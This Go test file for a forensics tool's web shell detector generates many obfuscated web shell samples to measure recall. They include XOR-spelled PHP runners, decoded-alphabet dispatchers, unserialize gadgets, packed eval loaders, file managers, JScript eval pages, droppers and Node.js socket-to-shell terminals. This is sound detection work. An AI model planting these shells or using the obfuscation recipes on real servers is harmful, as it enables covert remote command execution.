package webshell

import (
	"bytes"
	"compress/flate"
	"encoding/base64"
	"fmt"
	"math/rand"
	"sort"
	"strings"
	"testing"

	"github.com/strata-forensics/strata/audit"
	"github.com/strata-forensics/strata/signatures/decode"
)

// Techniques of hiding, generated: each generator writes a page that hides how it reaches a
// runner in one of several spellings, and every variant must be found as a web shell at high
// or above. Clean pages built from the same parts stay silent.

// techVariant is one generated page.
type techVariant struct {
	technique, path, page string
}

// printable reports a byte a PHP single-quoted literal holds as written.
func printable(c byte) bool { return c >= 0x20 && c < 0x7f && c != '\'' && c != '\\' }

// bitwiseExpr spells s as a PHP expression of literals and string operators: XOR of two
// literals, AND or OR of two, a complement of escaped bytes, with the literals split by
// concatenations and comments and, where a piece is a word, written bare.
func bitwiseExpr(r *rand.Rand, s string) string {
	split := func(lit string) string {
		if len(lit) < 3 || r.Intn(2) == 0 {
			return quotePiece(r, lit)
		}
		h := 1 + r.Intn(len(lit)-1)
		sep := "."
		switch r.Intn(3) {
		case 0:
			sep = "./*" + fmt.Sprint(r.Intn(999)) + "*/"
		case 1:
			sep = " .\n    "
		}
		return quotePiece(r, lit[:h]) + sep + quotePiece(r, lit[h:])
	}
	switch r.Intn(4) {
	case 0, 1: // XOR with a random key
		a, b := make([]byte, len(s)), make([]byte, len(s))
		for k := range s {
			for {
				b[k] = byte(0x21 + r.Intn(0x5e))
				a[k] = s[k] ^ b[k]
				if printable(a[k]) && printable(b[k]) {
					break
				}
			}
		}
		if r.Intn(2) == 0 {
			return "(" + split(string(a)) + ")^(" + split(string(b)) + ")"
		}
		return split(string(a)) + " ^ " + split(string(b))
	case 2: // AND of two supersets, or OR of two subsets
		a, b := make([]byte, len(s)), make([]byte, len(s))
		and := r.Intn(2) == 0
		for k := range s {
			for {
				m1, m2 := byte(r.Intn(256)), byte(r.Intn(256))
				if and {
					a[k], b[k] = s[k]|(m1&^m2), s[k]|(m2&^m1)
				} else {
					a[k], b[k] = s[k]&m1, s[k]&^m1|s[k]&m2
				}
				if printable(a[k]) && printable(b[k]) {
					break
				}
			}
		}
		op := "|"
		if and {
			op = "&"
		}
		return split(string(a)) + op + split(string(b))
	default: // complement
		var b strings.Builder
		for k := range s {
			fmt.Fprintf(&b, "\\x%02x", ^s[k])
		}
		return `~"` + b.String() + `"`
	}
}

// quotePiece writes a literal, bare when it is a word PHP before 8 reads as a string.
func quotePiece(r *rand.Rand, lit string) string {
	if r.Intn(3) == 0 && bareWordLike(lit) {
		return lit
	}
	return "'" + lit + "'"
}

func bareWordLike(s string) bool {
	if s == "" || s[0] >= '0' && s[0] <= '9' {
		return false
	}
	for k := 0; k < len(s); k++ {
		c := s[k]
		if !(c == '_' || c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9') {
			return false
		}
	}
	switch strings.ToLower(s) {
	case "and", "or", "xor", "as", "if", "new", "use", "fn", "do", "for", "case", "else", "true", "false", "null", "echo", "print", "array", "list":
		return false
	}
	// a word of capitals alone reads as a constant of numbers (E_ALL)
	return strings.ToUpper(s) != s
}

var (
	techRunners = []string{"system", "passthru", "shell_exec", "exec", "assert", "popen"}
	techSources = []string{"$_POST['k']", "$_GET['q']", "$_COOKIE['sid']", "$_REQUEST['x']", "getenv('HTTP_X_TOKEN')"}
)

// runnerCall calls the function variable f on request input src the way a runner is called.
func runnerCall(f, run, src string) string {
	if run == "popen" {
		return "$p = " + f + "(" + src + ", 'r'); echo fread($p, 4096);"
	}
	return "echo @" + f + "(" + src + ");"
}

// arithmeticPages: runner names computed by string arithmetic, then called on request input.
func arithmeticPages(r *rand.Rand) []techVariant {
	var out []techVariant
	for n := 0; n < 40; n++ {
		run, src := techRunners[r.Intn(len(techRunners))], techSources[r.Intn(len(techSources))]
		var page string
		switch n % 5 {
		case 0: // one variable
			page = "$f = " + bitwiseExpr(r, run) + ";\n" + runnerCall("$f", run, src)
		case 1: // the key in a variable of its own
			key := make([]byte, len(run))
			enc := make([]byte, len(run))
			for k := range run {
				for {
					key[k] = byte(0x21 + r.Intn(0x5e))
					enc[k] = run[k] ^ key[k]
					if printable(enc[k]) && printable(key[k]) {
						break
					}
				}
			}
			page = "$k = '" + string(key) + "';\n$e = '" + string(enc) + "';\n$f = $e ^ $k;\n" + runnerCall("$f", run, src)
		case 2: // the name in pieces, each computed
			h := len(run) / 2
			page = "$a = " + bitwiseExpr(r, run[:h]) + "; $b = " + bitwiseExpr(r, run[h:]) + ";\n$f = $a . $b;\n" + runnerCall("$f", run, src)
		case 3: // handed to a callback runner
			page = "$v = " + src + ";\ncall_user_func(" + bitwiseExpr(r, run) + ", $v);"
			if run == "popen" {
				page = "$v = " + src + ";\ncall_user_func(" + bitwiseExpr(r, "system") + ", $v);"
			}
		default: // request source named the same way
			sg := []string{"_POST", "_GET", "_REQUEST", "_COOKIE"}[r.Intn(4)]
			page = "$s = " + bitwiseExpr(r, sg) + ";\n$f = " + bitwiseExpr(r, run) + ";\n$in = ${$s};\n" + runnerCall("$f", run, "$in['c']")
		}
		out = append(out, techVariant{"string-arithmetic", "/var/www/html/wp-content/plugins/hello/update.php", "<?php\n" + page + "\n"})
	}
	return out
}

// alphabetPages: an alphabet decoded from a literal, indexed character by character to
// spell the runner or the decoders of a payload.
func alphabetPages(r *rand.Rand) []techVariant {
	var out []techVariant
	for n := 0; n < 30; n++ {
		run, src := techRunners[r.Intn(len(techRunners))], techSources[r.Intn(len(techSources))]
		alpha := []byte("abcdefghijklmnopqrstuvwxyz_0123456789")
		r.Shuffle(len(alpha), func(i, j int) { alpha[i], alpha[j] = alpha[j], alpha[i] })
		lit := encodeAlphabet(r, string(alpha))
		spell := func(s string) string {
			var parts []string
			for k := 0; k < len(s); k++ {
				x := bytes.IndexByte(alpha, s[k])
				if r.Intn(2) == 0 {
					parts = append(parts, fmt.Sprintf("$z[%d]", x))
				} else {
					parts = append(parts, fmt.Sprintf("$z{%d}", x))
				}
			}
			return strings.Join(parts, " . ")
		}
		var page string
		switch n % 3 {
		case 0:
			page = "$z = " + lit + ";\n$f = " + spell(run) + ";\n" + runnerCall("$f", run, src)
		case 1: // in a function, the runner's name built inside
			page = "function h($p) {\n  $z = " + lit + ";\n  $f = " + spell(run) + ";\n  return $f($p);\n}\n" + "echo h(" + src + ");"
			if run == "popen" {
				page = strings.Replace(page, "return $f($p);", "return fread($f($p, 'r'), 4096);", 1)
			}
		default: // a keyed dispatcher: decoders by hidden names, eval of what it is passed
			page = "function d($k, $v) {\n  $z = " + lit + ";\n  if ($k == 'a1') { $g = " + spell("base64_decode") + "; return $g($v); }\n" +
				"  elseif ($k == 'b2') { $g = " + spell("gzinflate") + "; return $g($v); }\n  elseif ($k == 'c3') { return eval($v); }\n}\n$q = 'd';\n"
		}
		out = append(out, techVariant{"decoded-alphabet", "/var/www/html/wp-content/themes/t/inc/compat.inc", "<?php\n" + page + "\n"})
	}
	return out
}

// encodeAlphabet hides s behind one to three of PHP's decoders, as a call expression.
func encodeAlphabet(r *rand.Rand, s string) string {
	expr := s
	var calls []string
	for k := 0; k < 1+r.Intn(3); k++ {
		switch r.Intn(4) {
		case 0:
			expr = decode.Rot13(expr)
			calls = append(calls, "str_rot13")
		case 1:
			expr = decode.Reverse(expr)
			calls = append(calls, "strrev")
		case 2:
			expr = base64.StdEncoding.EncodeToString([]byte(expr))
			calls = append(calls, "base64_decode")
		default:
			var b bytes.Buffer
			w, _ := flate.NewWriter(&b, 9)
			w.Write([]byte(expr))
			w.Close()
			expr = base64.StdEncoding.EncodeToString(b.Bytes())
			calls = append(calls, "gzinflate", "base64_decode")
		}
	}
	out := "'" + strings.ReplaceAll(strings.ReplaceAll(expr, `\`, `\\`), `'`, `\'`) + "'"
	for k := len(calls) - 1; k >= 0; k-- {
		out = calls[k] + "(" + out + ")"
	}
	return out
}

func TestHarnessTechniques(t *testing.T) {
	r := rand.New(rand.NewSource(10))
	var vs []techVariant
	vs = append(vs, arithmeticPages(r)...)
	vs = append(vs, alphabetPages(r)...)
	vs = append(vs, gadgetPages(r)...)
	vs = append(vs, packedPages(r)...)
	vs = append(vs, fileManagerPages(r)...)
	vs = append(vs, jscriptPages(r)...)
	vs = append(vs, dropperPages(r)...)
	vs = append(vs, terminalPages(r)...)
	scoreTechniques(t, vs, func(v techVariant, b *audit.Finding) string {
		if v.technique == "web-terminal" && !b.Is(audit.CategoryReverseShell) {
			return "without the reverse-shell label"
		}
		return ""
	})
}

// The same parts in clean code: flags and error levels combined with | and &, a XOR cipher
// over request data, a computed name that is no runner, an alphabet indexed for a random
// token, a template engine evaluating its compiled template.
func TestTechniqueNegatives(t *testing.T) {
	pages := map[string]string{
		"/var/www/html/index.php":         "<?php\nerror_reporting(E_ALL & ~E_NOTICE & ~E_DEPRECATED);\n$m = LOCK_EX | FILE_APPEND;\nfile_put_contents('/var/log/app.log', date('c') . \"\\n\", $m);\necho htmlspecialchars($_GET['q'] ?? '');\n",
		"/var/www/html/lib/cipher.php":    "<?php\n$key = 'k3y!';\n$data = base64_decode($_POST['d']);\n$out = $data ^ str_repeat($key, (int) ceil(strlen($data) / 4));\necho base64_encode($out);\n",
		"/var/www/html/lib/name.php":      "<?php\n$f = 'VG[B]K' ^ '%3)+3,';\necho $f($_GET['x']);\n",
		"/var/www/html/lib/token.php":     "<?php\n$chars = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789';\n$t = '';\nfor ($i = 0; $i < 32; $i++) { $t .= $chars[mt_rand(0, 61)]; }\nsetcookie('csrf', $t);\necho $_GET['page'] ?? '';\n",
		"/var/www/html/lib/initials.php":  "<?php\n$s = str_rot13('uryyb jbeyq');\n$i = $s[0] . $s{6};\necho strtoupper($i), htmlspecialchars($_GET['n'] ?? '');\n",
		"/var/www/html/lib/template.php":  "<?php\nclass View {\n  function render($compiled, $vars) {\n    extract($vars);\n    eval('?>' . $compiled);\n  }\n}\n",
		"/var/www/html/lib/cache.php":     "<?php\nclass Cache { public $file; public $code; function __destruct() { file_put_contents($this->file, serialize($this)); } }\nclass Tpl { public $code; function __destruct() { eval($this->code); } }\n$c = unserialize(file_get_contents(__DIR__ . '/cache/data.bin'));\n",
		"/var/www/html/lib/prefs.php":     "<?php\nclass Prefs { public $theme; function __wakeup() { $this->theme = basename($this->theme); } }\n$p = unserialize($_COOKIE['prefs']);\necho htmlspecialchars($p->theme);\n",
		"/var/www/html/lib/safe.php":      "<?php\nclass Job { public $cmd; function __destruct() { system($this->cmd); } }\n$j = new Job();\n$j->cmd = 'date';\n$d = unserialize($_POST['d'], ['allowed_classes' => false]);\nprint_r($d);\n",
		"/var/www/html/lib/translate.php": "<?php\n$abc = base64_decode('YWJjZGVmZ2hpamtsbW5vcHFyc3R1dnd4eXo=');\nfunction label($k, $v) { global $abc; $n = $abc[18] . $abc[19] . $abc[17] . $abc[19] . $abc[14] . $abc[20] . $abc[15] . $abc[15] . $abc[4] . $abc[17]; return $n($v); }\necho label('t', $_GET['t'] ?? '');\n",
	}
	for p, page := range pages {
		if fs := New().Analyze(p, []byte(page)); len(fs) > 0 {
			t.Errorf("%s:%s\n%s", p, dump(fs), page)
		}
	}
}

// gadgetPages: unserialize() of request input in a page whose class runs a property from a
// magic method.
func gadgetPages(r *rand.Rand) []techVariant {
	methods := []string{"__destruct", "__wakeup", "__toString", "__call", "__get"}
	bodies := []func(p, q string) string{
		func(p, q string) string { return "eval($this->" + p + ");" },
		func(p, q string) string { return "@assert($this->" + p + ");" },
		func(p, q string) string { return "system($this->" + p + ");" },
		func(p, q string) string { return "echo shell_exec('cd /tmp; ' . $this->" + p + ");" },
		func(p, q string) string { return "call_user_func($this->" + p + ", $this->" + q + ");" },
		func(p, q string) string { return "array_map($this->" + p + ", array($this->" + q + "));" },
		func(p, q string) string { return "($this->" + p + ")($this->" + q + ");" },
		func(p, q string) string { return "$f = $this->" + p + ";\n    $f($this->" + q + ");" },
	}
	srcs := []string{"$_GET['d']", "$_POST['s']", "$_COOKIE['prefs']", "base64_decode($_REQUEST['o'])", "file_get_contents('php://input')", "urldecode($_SERVER['QUERY_STRING'])"}
	var out []techVariant
	for n := 0; n < 32; n++ {
		m := methods[r.Intn(len(methods))]
		params := "()"
		if m == "__call" {
			params = "($name, $args)"
		} else if m == "__get" {
			params = "($name)"
		}
		p, q := names[r.Intn(len(names))], names[r.Intn(len(names))]+"2"
		cls := []string{"Cache_Item", "Logger", "Example", "WP_Session_Data"}[r.Intn(4)]
		page := "class " + cls + " {\n  public $" + p + " = '';\n  protected $" + q + ";\n  function " + m + params + " {\n    " + bodies[n%len(bodies)](p, q) + "\n    return '';\n  }\n}\n"
		src := srcs[r.Intn(len(srcs))]
		switch r.Intn(3) {
		case 0:
			page += "unserialize(" + src + ");\n"
		case 1:
			page += "$data = " + src + ";\n$obj = @unserialize($data);\n"
		default:
			page += "if (isset($_GET['d']) || true) {\n  $o = unserialize(" + src + ");\n  echo $o;\n}\n"
		}
		out = append(out, techVariant{"pop-gadget", "/var/www/html/cache/cache.php", "<?php\n" + page})
	}
	return out
}

// packEncode hides payload behind one of the packers' chains, as the call expression PHP
// decodes it with.
func packEncode(r *rand.Rand, payload []byte) string {
	deflated := func(b []byte) []byte {
		var buf bytes.Buffer
		w, _ := flate.NewWriter(&buf, 9)
		w.Write(b)
		w.Close()
		return buf.Bytes()
	}
	b64 := func(b []byte) string { return base64.StdEncoding.EncodeToString(b) }
	switch r.Intn(5) {
	case 0:
		return "gzinflate(base64_decode('" + b64(deflated(payload)) + "'))"
	case 1:
		return "base64_decode('" + b64(payload) + "')"
	case 2:
		return "gzinflate(base64_decode(strrev('" + decode.Reverse(b64(deflated(payload))) + "')))"
	case 3:
		return "gzinflate(str_rot13(base64_decode('" + b64([]byte(decode.Rot13(string(deflated(payload))))) + "')))"
	default:
		return "str_rot13(gzinflate(base64_decode('" + b64(deflated([]byte(decode.Rot13(string(payload))))) + "')))"
	}
}

// packedPages: a page that is one statement, eval of a decoded blob, whose payload shows no
// request flow: bytes that are no code, code that calls a dispatcher defined elsewhere, or a
// second blob no decoder reads.
func packedPages(r *rand.Rand) []techVariant {
	roots := []string{"/var/www/html/wp-includes/class-wp-cache-helper.php", "/var/www/html/index2.php", "/srv/www/site/lib/l.php",
		"/var/www/vhosts/shop/httpdocs/wp-content/plugins/seo/seo.php", "/home/u/public_html/tmp.php"}
	var out []techVariant
	for n := 0; n < 25; n++ {
		var payload []byte
		switch n % 3 {
		case 0:
			payload = make([]byte, 2000+r.Intn(9000))
			r.Read(payload)
		case 1:
			blob := make([]byte, 3000)
			r.Read(blob)
			payload = []byte("$k = 'aX0'.'fn'; $k('c3', $k('a1', '" + base64.StdEncoding.EncodeToString(blob) + "'));")
		default:
			blob := make([]byte, 1500)
			r.Read(blob)
			payload = []byte("eval(convert_uudecode('" + strings.ReplaceAll(base64.StdEncoding.EncodeToString(blob), "'", "") + "'));")
		}
		stmt := "eval(" + packEncode(r, payload) + ");"
		if r.Intn(3) == 0 {
			stmt = "@" + stmt
		}
		page := "<?php\n" + stmt + "\n"
		switch r.Intn(3) {
		case 0:
			page += "?>\n"
		case 1:
			page = "<?php " + stmt + " ?>"
		}
		out = append(out, techVariant{"packed-loader", roots[r.Intn(len(roots))], page})
	}
	return out
}

// A packed loader outside a web root, or among a plugin's own code, stays at medium: code
// packed by a commercial obfuscator is worth a look, not a web shell on its shape alone.
func TestPackedLoaderNegatives(t *testing.T) {
	r := rand.New(rand.NewSource(3))
	blob := make([]byte, 4000)
	r.Read(blob)
	stmt := "eval(" + packEncode(r, blob) + ");"
	for p, page := range map[string]string{
		"/usr/share/php/Vendor/Licence.php":            "<?php\n" + stmt + "\n",
		"/var/www/html/wp-content/plugins/pro/pro.php": "<?php\n/* Plugin Name: Pro */\nfunction pro_init() { add_option('pro', 1); }\nadd_action('init', 'pro_init');\n" + stmt + "\n",
	} {
		if b := best(New().Analyze(p, []byte(page))); b != nil && b.Severity >= audit.High {
			t.Errorf("%s: %s %s", p, b.Rule, b.Title)
		}
	}
}

// fileManagerPages: one-line file managers whose parameters name paths (base64-decoded in
// place, or plain) and write, upload to or chmod them.
func fileManagerPages(r *rand.Rand) []techVariant {
	decodeAll := []string{
		"foreach($_GET as $k=>$v)$_GET[$k]=base64_decode($v);",
		"function y($b){return base64_decode($b);}foreach($_GET as $c=>$d)$_GET[$c]=y($d);",
		"",
	}
	paths := []string{"$_GET['d'].'/'.$_GET['f']", "$_GET['p']", "$d.'/'.$_GET['f']", "rtrim($_GET['d'],'/').DIRECTORY_SEPARATOR.$_GET['f']"}
	ops := []func(p string) string{
		func(p string) string { return "if(isset($_POST['t']))file_put_contents(" + p + ",$_POST['t']);" },
		func(p string) string {
			return "if(isset($_POST['t'])){$h=fopen(" + p + ",'w');fwrite($h,$_POST['t']);fclose($h);}"
		},
		func(p string) string {
			return "if(isset($_GET['c']))echo chmod(" + p + ",octdec($_GET['c']))?'ok':'no';"
		},
		func(p string) string {
			return "if(isset($_FILES['u']))move_uploaded_file($_FILES['u']['tmp_name']," + strings.Replace(p, "$_GET['f']", "$_FILES['u']['name']", 1) + ");"
		},
	}
	var out []techVariant
	for n := 0; n < 24; n++ {
		p := paths[r.Intn(len(paths))]
		body := decodeAll[r.Intn(len(decodeAll))] + "$d=isset($_GET['d'])?$_GET['d']:getcwd();" + ops[n%len(ops)](p) +
			"foreach(scandir($d) as $v){echo '<a href=\"?d='.base64_encode($d.'/'.$v).'\">'.$v.'</a><br>';}"
		page := "<?='<hr>';" + body + "?>\n"
		if r.Intn(2) == 0 {
			page = "<!-- x -->\n<?php " + body + "\n"
		}
		out = append(out, techVariant{"file-manager", "/var/www/html/favicon.php", page})
	}
	return out
}

// Applications' own file handling: uploads kept below their directory under a checked name,
// permissions set on their own files, notes written to a fixed file.
func TestFileManagerNegatives(t *testing.T) {
	for p, page := range map[string]string{
		"/var/www/html/upload.php": "<?php\n$dir = __DIR__ . '/uploads/';\n$n = basename($_FILES['f']['name']);\nif (preg_match('/\\.(jpe?g|png)$/i', $n)) move_uploaded_file($_FILES['f']['tmp_name'], $dir . $n);\n",
		"/var/www/html/setup.php":  "<?php\n$cfg = __DIR__ . '/config.php';\nfile_put_contents($cfg, \"<?php return \" . var_export(['db' => 'app'], true) . ';');\nchmod($cfg, 0640);\n",
		"/var/www/html/notes.php":  "<?php\nif (isset($_POST['t'])) file_put_contents(__DIR__ . '/data/notes.txt', $_POST['t']);\nchmod(__DIR__ . '/data/notes.txt', octdec($_POST['mode'] ?? '640'));\necho htmlspecialchars(file_get_contents(__DIR__ . '/data/notes.txt'));\n",
	} {
		if fs := New().Analyze(p, []byte(page)); len(fs) > 0 {
			t.Errorf("%s:%s", p, dump(fs))
		}
	}
}

// jscriptPages: classic ASP and ASP.NET JScript pages reaching eval through expressions.
func jscriptPages(r *rand.Rand) []techVariant {
	reqs := []string{`Request("c")`, `Request.Form("c")`, `Request.QueryString("c")`, `Request.Item["c"]`, `Request["c"]`}
	shapes := []func(req string) string{
		func(req string) string {
			return "function _(k){ if(k){ return " + req + " + '' } else { return eval\n} }\n_()(_(!-''));"
		},
		func(req string) string { return "var v = " + req + ";\n(0, eval)(v);" },
		func(req string) string { return "this[\"ev\" + \"al\"](" + req + " + '');" },
		func(req string) string { return "var e = eval;\ne(" + req + ");" },
		func(req string) string { return "Response.Write(eval(" + req + ", \"unsafe\"));" },
		func(req string) string { return "this.eval(String(" + req + "));" },
		func(req string) string {
			return "function getRunner() { return eval; }\nvar s = " + req + ";\ngetRunner()(s);"
		},
	}
	var out []techVariant
	for n := 0; n < 28; n++ {
		req := reqs[r.Intn(len(reqs))]
		code := shapes[n%len(shapes)](req)
		if r.Intn(2) == 0 {
			out = append(out, techVariant{"jscript-eval-expression", "/var/www/iis/upload/img/_.asp", "<%@LANGUAGE=\"javascript\"%>\n<%" + code + "%>\n"})
		} else {
			out = append(out, techVariant{"jscript-eval-expression", "/inetpub/wwwroot/upload/q.aspx", "<%@ Page Language=\"JScript\" %>\n<%" + code + "%>\n"})
		}
	}
	return out
}

// dropperPages: handlers and pages that write out a page of their own that is a web shell.
func dropperPages(r *rand.Rand) []techVariant {
	split := func(s string) string {
		// the page as a C# or Java string, cut in two and joined
		q := strings.ReplaceAll(s, `"`, `\"`)
		h := len(q) / 2
		for h > 0 && q[h-1] == '\\' {
			h--
		}
		return "\"" + q[:h] + "\" + \"" + q[h:] + "\""
	}
	inner := []struct{ page, target string }{
		{`<%@ Page Language="Jscript"%><%Response.Write(eval(Request.Item["z"],"unsafe"));%>`, "query.aspx"},
		{`<%@ Page Language="C#"%><%System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]);%>`, "img/info.aspx"},
		{`<%eval request("x")%>`, "x.asp"},
	}
	var out []techVariant
	for n := 0; n < 18; n++ {
		in := inner[r.Intn(len(inner))]
		page, target := in.page, in.target
		var code string
		switch n % 3 {
		case 0:
			code = "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System; using System.Web; using System.IO;\npublic class H : IHttpHandler {\n  public void ProcessRequest(HttpContext context) {\n    string show = " + split(page) + ";\n    StreamWriter f = File.CreateText(context.Server.MapPath(\"" + target + "\"));\n    f.Write(show);\n    f.Close();\n  }\n  public bool IsReusable { get { return false; } }\n}\n"
			out = append(out, techVariant{"dropper", "/var/www/app/upload/xx.ashx", code})
		case 1:
			code = "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.IO\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n  File.WriteAllText(Server.MapPath(\"" + target + "\"), " + split(page) + ");\n}\n</script>\n"
			out = append(out, techVariant{"dropper", "/var/www/app/setup.aspx", code})
		default:
			php := []string{`<?php @eval($_POST["p"]); ?>`, `<?php system($_GET["c"]); ?>`, `<?= passthru($_REQUEST["x"]) ?>`}[r.Intn(3)]
			q := strings.ReplaceAll(php, `'`, `\'`)
			// cut where no name is split: the page gate reads names whole
			h := strings.Index(q, "(") + 1
			code = "<?php\n$n = __DIR__ . '/wp-cache.php';\n$b = '" + q[:h] + "' . '" + q[h:] + "';\nfile_put_contents($n, $b);\necho 'ok';\n"
			out = append(out, techVariant{"dropper", "/var/www/html/up.php", code})
		}
	}
	return out
}

// Clean pages that write pages or name eval without a request: a handler writing a static
// page, an installer writing its configuration, JScript evaluating a constant.
func TestDropperAndJScriptNegatives(t *testing.T) {
	for p, page := range map[string]string{
		"/var/www/app/gen.ashx":           "<%@ WebHandler Language=\"C#\" Class=\"G\" %>\nusing System.IO; using System.Web;\npublic class G : IHttpHandler {\n  public void ProcessRequest(HttpContext c) {\n    File.WriteAllText(c.Server.MapPath(\"status.aspx\"), \"<%@ Page Language=\\\"C#\\\" %><html><body><%= DateTime.Now %></body></html>\");\n  }\n  public bool IsReusable { get { return true; } }\n}\n",
		"/var/www/html/install/step3.php": "<?php\n$cfg = \"<?php\\nreturn ['db' => '\" . addslashes($_POST['db']) . \"'];\\n\";\nfile_put_contents(__DIR__ . '/../config.php', $cfg);\n",
		"/var/www/iis/json.asp":           "<%@LANGUAGE=\"javascript\"%>\n<% var e = eval; var o = e('(' + '{\"a\":1}' + ')'); Response.Write(Server.HTMLEncode(Request(\"q\") + o.a)); %>\n",
	} {
		if fs := New().Analyze(p, []byte(page)); len(fs) > 0 {
			t.Errorf("%s:%s", p, dump(fs))
		}
	}
}

// terminalPages: Node.js routes that spawn an interactive shell and relay a socket to it.
func terminalPages(r *rand.Rand) []techVariant {
	ptyReq := []string{"var pty = require('node-pty');", "const pty = require(\"node-pty-prebuilt-multiarch\");", "let pty = require('@lydell/node-pty');"}
	shells := []string{"'bash'", "process.platform === 'win32' ? 'powershell.exe' : 'bash'", "process.env.SHELL || '/bin/sh'", "'/bin/zsh'"}
	shapes := []func(req, sh string) string{
		func(req, sh string) string {
			return req + "\nvar ews = require('express-ws');\nmodule.exports = function (app, opts) {\n  ews(app);\n  var sessions = {};\n  app.post(opts.mount, function (req, res) {\n    var t = pty.spawn(" + sh + ", [], { cols: 80, rows: 24, cwd: process.env.HOME, env: process.env });\n    sessions[t.pid] = t;\n    res.send(String(t.pid));\n  });\n  app.ws(opts.mount + '/:id', function (ws, req) {\n    var t = sessions[parseInt(req.params.id)];\n    t.on('data', function (d) { ws.send(d); });\n    ws.on('message', function (m) { t.write(m); });\n  });\n};\n"
		},
		func(req, sh string) string {
			return "const express = require('express');\nconst { spawn } = require('child_process');\nconst app = express();\nrequire('express-ws')(app);\napp.ws('/status/live', (ws, req) => {\n  const p = spawn(" + sh + ", ['-i']);\n  p.stdout.on('data', (d) => ws.send(d.toString()));\n  ws.on('message', (msg) => p.stdin.write(msg + '\\n'));\n});\napp.listen(8081);\n"
		},
		func(req, sh string) string {
			return "const http = require('http');\nconst cp = require('child_process');\nhttp.createServer((req, res) => {\n  const sh = cp.spawn(" + sh + ");\n  req.pipe(sh.stdin);\n  sh.stdout.pipe(res);\n}).listen(9000);\n"
		},
		func(req, sh string) string {
			return req + "\nconst WebSocket = require('ws');\nconst wss = new WebSocket.Server({ port: 7681 });\nwss.on('connection', (sock) => {\n  const term = pty.spawn(" + sh + ", [], {});\n  term.onData((d) => sock.send(d));\n  sock.on('message', (m) => term.write(m));\n});\n"
		},
		func(req, sh string) string {
			return "const io = require('socket.io')(3001);\nio.on('connection', function (socket) {\n  const shell = require('child_process').spawn(" + sh + ");\n  shell.stdout.on('data', (d) => socket.emit('out', d));\n  socket.on('input', function (data) { shell.stdin.write(data); });\n});\n"
		},
	}
	paths := []string{"/srv/app/node_modules/express-terminal/index.js", "/srv/app/lib/health.js", "/opt/webapp/server.js"}
	var out []techVariant
	for n := 0; n < 20; n++ {
		code := shapes[n%len(shapes)](ptyReq[r.Intn(len(ptyReq))], shells[r.Intn(len(shells))])
		out = append(out, techVariant{"web-terminal", paths[r.Intn(len(paths))], code})
	}
	return out
}

// Terminals that are no backdoor: a terminal widget of a console program, a build route
// running a fixed command through sh -c, a package's demonstration server, a route running a
// program that is no shell.
func TestTerminalNegatives(t *testing.T) {
	for p, page := range map[string]string{
		"/srv/app/node_modules/blessed/lib/widgets/terminal.js": "var pty = require('node-pty');\nfunction Terminal(options) {\n  this.pty = pty.fork(options.shell || process.env.SHELL || 'sh', options.args || [], { cols: 80, rows: 24 });\n  var self = this;\n  this.pty.on('data', function (d) { self.write(d); });\n  this.screen.on('keypress', function (ch) { self.pty.write(ch); });\n}\nmodule.exports = Terminal;\n",
		"/srv/app/build.js":                          "const express = require('express');\nconst { spawn } = require('child_process');\nconst app = express();\napp.post('/build', (req, res) => {\n  const p = spawn('sh', ['-c', 'npm run build']);\n  p.stdout.pipe(res);\n  req.on('data', (d) => p.stdin.write(d));\n});\napp.listen(8080);\n",
		"/srv/app/node_modules/xterm/demo/server.js": "var pty = require('node-pty');\nvar app = require('express')();\nrequire('express-ws')(app);\napp.post('/terminals', function (req, res) { var t = pty.spawn('bash', [], {}); res.send(String(t.pid)); });\napp.ws('/terminals/:pid', function (ws, req) { ws.on('message', function (m) { t.write(m); }); });\n",
		"/srv/app/git.js":                            "const express = require('express');\nconst { spawn } = require('child_process');\nconst app = express();\napp.ws = app.ws || function () {};\napp.get('/log', (req, res) => {\n  const g = spawn('git', ['log', '--oneline']);\n  g.stdout.pipe(res);\n});\n",
	} {
		if fs := New().Analyze(p, []byte(page)); len(fs) > 0 {
			t.Errorf("%s:%s", p, dump(fs))
		}
	}
}

// scoreTechniques analyses each variant, which must be found as a web shell at high or above
// (and pass check, when given: a reason it fails, "" when it passes), and prints each
// technique's recall in the form make detect-report collects.
func scoreTechniques(t *testing.T, vs []techVariant, check func(v techVariant, b *audit.Finding) string) {
	t.Helper()
	a := New()
	type tally struct{ found, total int }
	by := map[string]*tally{}
	for _, v := range vs {
		ty := by[v.technique]
		if ty == nil {
			ty = &tally{}
			by[v.technique] = ty
		}
		ty.total++
		fs := a.Analyze(v.path, []byte(v.page))
		b := best(fs)
		if b == nil || b.Category != audit.CategoryWebshell || b.Severity < audit.High {
			t.Errorf("%s not found:%s\n%s", v.technique, dump(fs), v.page)
			continue
		}
		if check != nil {
			if why := check(v, b); why != "" {
				t.Errorf("%s %s:%s\n%s", v.technique, why, dump(fs), v.page)
				continue
			}
		}
		ty.found++
	}
	names := make([]string, 0, len(by))
	for k := range by {
		names = append(names, k)
	}
	sort.Strings(names)
	for _, k := range names {
		fmt.Printf("harness: webshell/technique-%s %d/%d recall=%.3f\n", k, by[k].found, by[k].total, float64(by[k].found)/float64(by[k].total))
	}
}
